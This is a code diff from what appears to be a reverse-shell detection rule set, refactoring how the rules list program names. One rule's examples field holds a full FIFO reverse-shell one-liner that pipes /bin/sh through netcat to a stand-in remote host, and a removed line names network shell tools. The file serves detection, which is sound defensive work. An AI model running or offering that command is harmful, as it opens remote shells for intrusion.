@@ -169,7 +169,7 @@ PIPELINE = Rule(
     ),
     match=_pipeline,
     reads="reading",
-    hints=("nc", "telnet", "socat", "openssl", "cryptcat", "ncat", "netcat", "websocat", "rcat"),
+    programs=frozenset(_CLIENTS),
 )
 FIFO = Rule(
     slug="shell-over-fifo",
@@ -184,7 +184,7 @@ FIFO = Rule(
     examples=("mknod /tmp/bp p; /bin/sh 0</tmp/bp & nc 203.0.113.9 443 1>/tmp/bp",),
     match=_fifo,
     reads="reading",
-    hints=("mkfifo", "mknod"),
+    programs=frozenset({"mkfifo", "mknod"}),
 )
 DISPLAY = Rule(
     slug="terminal-on-foreign-display",
